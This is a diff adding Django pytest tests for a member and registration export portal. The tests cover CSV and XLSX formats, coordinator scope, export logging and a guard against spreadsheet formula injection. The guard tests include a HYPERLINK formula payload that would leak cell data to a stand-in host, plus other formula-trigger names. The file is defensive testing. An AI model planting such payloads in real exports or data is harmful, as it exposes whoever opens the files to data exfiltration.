@@ -1,0 +1,334 @@
+"""Exports: real readers open the files, formulas never get through, scope and log hold."""
+
+import csv
+import io
+from datetime import date, datetime, timedelta
+
+import pytest
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
+from django.urls import reverse
+from django.utils import timezone
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from openpyxl import load_workbook
+
+from bijeenkomsten.models import Aanmelding
+from leden.models import Lid, Lidmaatschap
+from portal.exports import FORMULA_TRIGGERS, BaseExport, CsvDialect, Format
+from portal.models import ExportLog
+from tests import factories
+
+ACCENTED = "Élodie Brontë-Françoise"
+HEADER_NAME = "naam"
+
+
+def _login(client, user):
+    client.force_login(user)
+    return client
+
+
+def _content(response) -> bytes:
+    if response.streaming:
+        return b"".join(response.streaming_content)
+    return response.content
+
+
+def _csv_rows(response, delimiter: str = ";") -> list[list[str]]:
+    body = _content(response)
+    text = body.decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
+
+
+def _xlsx_rows(response) -> list[tuple]:
+    workbook = load_workbook(io.BytesIO(_content(response)))
+    return list(workbook.worksheets[0].iter_rows(values_only=True))
+
+
+def _export_members(client, **data):
+    return client.post(reverse("portal:members"), {"formaat": "csv", **data})
+
+
+def _names(rows) -> set[str]:
+    return {row[0] for row in rows[1:]}
+
+
+@pytest.fixture
+def accented(twente):
+    lid = factories.LidFactory(naam=ACCENTED, organisatie="Wijkteam Hengelo", bpsw_lid=True)
+    factories.LidmaatschapFactory(
+        lid=lid, netwerk=twente, schil="betrokken", lid_sinds=date(2021, 3, 1)
+    )
+    return lid
+
+
+# --- formats -------------------------------------------------------------------------------
+
+
+def test_semicolon_csv_has_bom_and_parses_with_accents(client, staff, accented):
+    response = _export_members(_login(client, staff))
+    assert response.status_code == 200
+    assert response.streaming
+    assert response["Content-Type"].startswith("text/csv")
+    assert "attachment" in response["Content-Disposition"]
+    body = _content(response)
+    assert body.startswith("\ufeff".encode())
+    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))
+    assert len(rows[0]) == 10
+    row = next(r for r in rows if r[0] == ACCENTED)
+    assert row[2] == "Wijkteam Hengelo"
+    assert row[4] == "Regionetwerk Twente"
+    assert row[5] == str(Lidmaatschap.Schil.BETROKKEN.label)
+    assert row[7] == "2021-03-01"
+
+
+def test_comma_csv_has_no_bom_and_parses_with_comma(client, staff, accented):
+    response = _export_members(_login(client, staff), formaat=Format.CSV_COMMA)
+    body = _content(response)
+    assert not body.startswith("\ufeff".encode())
+    rows = list(csv.reader(io.StringIO(body.decode("utf-8"), newline=""), delimiter=","))
+    assert ACCENTED in _names(rows)
+
+
+def test_xlsx_opens_in_openpyxl_with_rows_and_types(client, staff, accented):
+    response = _export_members(_login(client, staff), formaat="xlsx")
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
+    rows = _xlsx_rows(response)
+    assert len(rows[0]) == 10
+    assert len(rows) == 1 + Lidmaatschap.objects.count()
+    row = next(r for r in rows if r[0] == ACCENTED)
+    assert isinstance(row[7], datetime) and row[7].date() == date(2021, 3, 1)
+    assert row[8] is True
+    assert row[9] == 0
+
+
+def test_attended_counts_only_attendance_in_the_last_twelve_months(client, staff, accented):
+    now = timezone.now()
+    for days_ago, status in [
+        (30, "aanwezig"),
+        (200, "aanwezig"),
+        (400, "aanwezig"),
+        (10, "aangemeld"),
+    ]:
+        meeting = factories.BijeenkomstFactory(begin=now - timedelta(days=days_ago))
+        factories.AanmeldingFactory(bijeenkomst=meeting, lid=accented, status=status)
+    rows = _xlsx_rows(_export_members(_login(client, staff), formaat="xlsx"))
+    assert next(r for r in rows if r[0] == ACCENTED)[9] == 2
+
+
+def test_filters_narrow_the_member_list(client, cast, accented, twente):
+    _login(client, cast["staff"])
+    everyone = _names(_csv_rows(_export_members(client)))
+    assert {"Kern Twente", "Lid Rotterdam", ACCENTED} <= everyone
+    core_twente = _names(_csv_rows(_export_members(client, netwerk=twente.pk, schil="kern")))
+    assert core_twente == {"Coördinator Twente", "Kern Twente"}
+    recent = _names(_csv_rows(_export_members(client, lid_sinds_vanaf="2021-01-01")))
+    assert recent == {ACCENTED}
+
+
+# --- formula guard -------------------------------------------------------------------------
+
+
+class ListExport(BaseExport):
+    identifier = "test"
+    verbose_name = "Test"
+    columns = ["name", "number"]
+
+    def __init__(self, values):
+        super().__init__(user=None)
+        self.values = values
+
+    def rows(self):
+        for value in self.values:
+            yield (value, 1)
+
+
+names = st.lists(st.text(alphabet=st.characters(exclude_characters="\x00")), max_size=5)
+
+
+@settings(max_examples=75, deadline=None)
+@given(names)
+def test_no_csv_cell_starts_with_a_formula_trigger(values):
+    for dialect in (CsvDialect(";", True), CsvDialect(",", False)):
+        text = "".join(ListExport(values).iter_csv(dialect)).lstrip("\ufeff")
+        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=dialect.delimiter))
+        assert len(rows) == 1 + len(values)
+        for row in rows:
+            for cell in row:
+                assert not cell.startswith(FORMULA_TRIGGERS)
+
+
+@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(names)
+def test_no_xlsx_cell_has_the_formula_type(values):
+    buffer = io.BytesIO()
+    assert ListExport(values).write_xlsx(buffer) == len(values)
+    sheet = load_workbook(buffer).worksheets[0]
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert len(cells) == 2 * (1 + len(values))
+    assert all(cell.data_type != "f" for cell in cells)
+
+
+def test_malicious_names_are_text_through_the_real_view(client, staff, twente):
+    evil = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+31 6 1234", "@SUM(1)", "-2+3"]
+    for naam in evil:
+        factories.LidmaatschapFactory(lid=factories.LidFactory(naam=naam), netwerk=twente)
+    _login(client, staff)
+    csv_names = _names(_csv_rows(_export_members(client)))
+    assert {"'" + naam for naam in evil} <= csv_names
+    response = _export_members(client, formaat="xlsx")
+    sheet = load_workbook(io.BytesIO(_content(response))).worksheets[0]
+    first_column = {row[0].value: row[0].data_type for row in sheet.iter_rows(min_row=2)}
+    assert all(first_column[naam] == "s" for naam in evil)
+
+
+# --- who may export ------------------------------------------------------------------------
+
+
+def test_coordinator_of_twente_gets_only_twente_members(client, cast, accented):
+    for fmt in ("csv", "xlsx"):
+        response = _export_members(_login(client, cast["coordinator_twente"]), formaat=fmt)
+        rows = _csv_rows(response) if fmt == "csv" else _xlsx_rows(response)
+        assert _names(rows) == {"Coördinator Twente", "Kern Twente", "Betrokken Twente", ACCENTED}
+        assert {row[4] for row in rows[1:]} == {"Regionetwerk Twente"}
+
+
+def test_coordinator_cannot_pick_another_network(client, cast, rotterdam):
+    response = _export_members(_login(client, cast["coordinator_twente"]), netwerk=rotterdam.pk)
+    assert response.status_code == 400
+    assert not ExportLog.objects.exists()
+
+
+@pytest.mark.parametrize("who", ["kern_twente", "lid_rotterdam", "betrokken_twente"])
+def test_member_gets_no_export(client, cast, who):
+    _login(client, cast[who])
+    assert client.get(reverse("portal:index")).status_code == 403
+    assert _export_members(client).status_code == 403
+    assert not ExportLog.objects.exists()
+
+
+def test_staff_without_the_export_permission_gets_only_coordinated_networks(client, cast):
+    plain_staff = factories.UserFactory(is_staff=True)
+    assert _export_members(_login(client, plain_staff)).status_code == 403
+
+
+def test_visitor_is_sent_to_login(client, cast):
+    response = _export_members(client)
+    assert response.status_code == 302
+    assert reverse("account_login") in response["Location"]
+    assert not ExportLog.objects.exists()
+
+
+def test_export_page_shows_the_filter_form(client, cast):
+    response = _login(client, cast["coordinator_twente"]).get(reverse("portal:index"))
+    assert response.status_code == 200
+    assert b'name="lid_sinds_vanaf"' in response.content
+    assert "Regionetwerk Twente" in response.content.decode()
+    assert "Regionetwerk Rotterdam" not in response.content.decode()
+
+
+# --- registrations -------------------------------------------------------------------------
+
+
+@pytest.fixture
+def twente_meeting(cast, twente, accented):
+    programma = factories.HalfjaarprogrammaFactory(netwerk=twente)
+    meeting = factories.BijeenkomstFactory(netwerken=[twente], programma=programma, capaciteit=1)
+    factories.AanmeldingFactory(bijeenkomst=meeting, lid=accented, status="aanwezig")
+    factories.AanmeldingFactory(
+        bijeenkomst=meeting, lid=Lid.objects.get(user=cast["kern_twente"]), status="wachtlijst"
+    )
+    factories.AanmeldingFactory(
+        bijeenkomst=meeting, lid=None, gast_naam="=Gast", gast_email="gast@example.org"
+    )
+    return meeting
+
+
+def test_registration_export_per_meeting_and_programme(client, cast, twente_meeting):
+    _login(client, cast["coordinator_twente"])
+    urls = [
+        reverse("portal:meeting", args=[twente_meeting.pk]),
+        reverse("portal:programme", args=[twente_meeting.programma_id]),
+    ]
+    for url in urls:
+        rows = _csv_rows(client.post(url, {"formaat": "csv"}))
+        by_name = {row[2]: row for row in rows[1:]}
+        assert set(by_name) == {ACCENTED, "Kern Twente", "'=Gast"}
+        assert by_name[ACCENTED][6] == str(Aanmelding.Status.AANWEZIG.label)
+        assert by_name["Kern Twente"][6] == str(Aanmelding.Status.WACHTLIJST.label)
+        assert by_name["'=Gast"][3] == "gast@example.org"
+        xlsx = _xlsx_rows(client.post(url, {"formaat": "xlsx"}))
+        assert {row[2] for row in xlsx[1:]} == {ACCENTED, "Kern Twente", "=Gast"}
+    assert ExportLog.objects.count() == 4
+
+
+def test_meeting_of_another_network_answers_404(client, cast, rotterdam):
+    meeting = factories.BijeenkomstFactory(netwerken=[rotterdam])
+    programma = factories.HalfjaarprogrammaFactory(netwerk=rotterdam)
+    _login(client, cast["coordinator_twente"])
+    assert (
+        client.post(reverse("portal:meeting", args=[meeting.pk]), {"formaat": "csv"}).status_code
+        == 404
+    )
+    assert (
+        client.post(
+            reverse("portal:programme", args=[programma.pk]), {"formaat": "csv"}
+        ).status_code
+        == 404
+    )
+
+
+# --- the log and the queries -------------------------------------------------------------
+
+
+def test_every_export_adds_one_log_row(client, cast, twente, twente_meeting):
+    _login(client, cast["staff"])
+    _content(_export_members(client, netwerk=twente.pk, schil="kern"))
+    _content(_export_members(client, formaat="xlsx"))
+    _content(client.post(reverse("portal:meeting", args=[twente_meeting.pk]), {"formaat": "csv"}))
+    logs = list(ExportLog.objects.order_by("pk"))
+    assert len(logs) == 3
+    first = logs[0]
+    assert first.user == cast["staff"] and first.user_email == cast["staff"].email
+    assert (first.export, first.format, first.rows, first.complete) == ("members", "csv", 2, True)
+    assert first.filters == {"netwerk": twente.pk, "schil": "kern"}
+    assert logs[1].rows == Lidmaatschap.objects.count() and logs[1].format == "xlsx"
+    assert (logs[2].export, logs[2].rows) == ("registrations", 3)
+
+
+def test_admin_actions_export_members_and_memberships(client, cast, accented):
+    _login(client, cast["staff"])
+    lid_url = reverse("admin:leden_lid_changelist")
+    response = client.post(
+        lid_url, {"action": "export_members_csv", "_selected_action": [accented.pk]}
+    )
+    assert _names(_csv_rows(response)) == {ACCENTED}
+    membership = Lidmaatschap.objects.get(lid=accented)
+    response = client.post(
+        reverse("admin:leden_lidmaatschap_changelist"),
+        {"action": "export_members_xlsx", "_selected_action": [membership.pk]},
+    )
+    assert _names(_xlsx_rows(response)) == {ACCENTED}
+    assert list(ExportLog.objects.values_list("source", flat=True)) == ["admin", "admin"]
+
+
+def _count_export_queries(client, fmt: str) -> int:
+    with CaptureQueriesContext(connection) as queries:
+        response = _export_members(client, formaat=fmt)
+        assert len(_content(response)) > 0
+    return len(queries)
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_query_count_does_not_grow_with_rows(client, cast, twente, fmt):
+    _login(client, cast["staff"])
+    small = _count_export_queries(client, fmt)
+    for lid in factories.LidFactory.create_batch(40):
+        factories.LidmaatschapFactory(lid=lid, netwerk=twente)
+        meeting = factories.BijeenkomstFactory(begin=timezone.now() - timedelta(days=5))
+        factories.AanmeldingFactory(bijeenkomst=meeting, lid=lid, status="aanwezig")
+    assert ExportLog.objects.last().rows == 4
+    large = _count_export_queries(client, fmt)
+    assert ExportLog.objects.first().rows == 44
+    assert large == small
